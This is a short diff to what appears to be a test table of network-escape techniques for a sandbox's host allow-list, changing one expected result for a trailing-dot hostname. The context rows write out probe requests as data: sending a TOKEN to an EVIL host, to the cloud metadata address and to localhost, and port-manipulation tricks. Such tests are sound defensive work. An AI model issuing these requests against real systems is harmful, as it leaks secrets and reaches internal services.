@@ -31,7 +31,7 @@ export const hosts: TechniqueClass = {
     ["http-address", "for an address", "http(get(EVIL, '/' + TOKEN))", DOMAIN],
     ["http-metadata", "for the metadata address", "http(get(METADATA, '/latest/meta-data/' + TOKEN))", DOMAIN],
     ["http-localhost", "for localhost", "http(get('localhost', '/' + TOKEN))", DOMAIN],
-    ["http-dot", "for an allowed name with a dot at its end", "http(get(GOOD + '.'))", DOMAIN],
+    ["http-dot", "for an allowed name with a dot at its end", "http(get(GOOD + '.'))", BAD_REQUEST],
     ["http-port", "for an allowed name on another port", "http(get(GOOD + ':22'))", BAD_REQUEST],
     ["http-port-zeros", "for an allowed name and its port with zeros", "http(get(GOOD + ':00080'))", BAD_REQUEST],
     ["http-port-empty", "for an allowed name and no port behind its colon", "http(get(GOOD + ':'))", BAD_REQUEST],
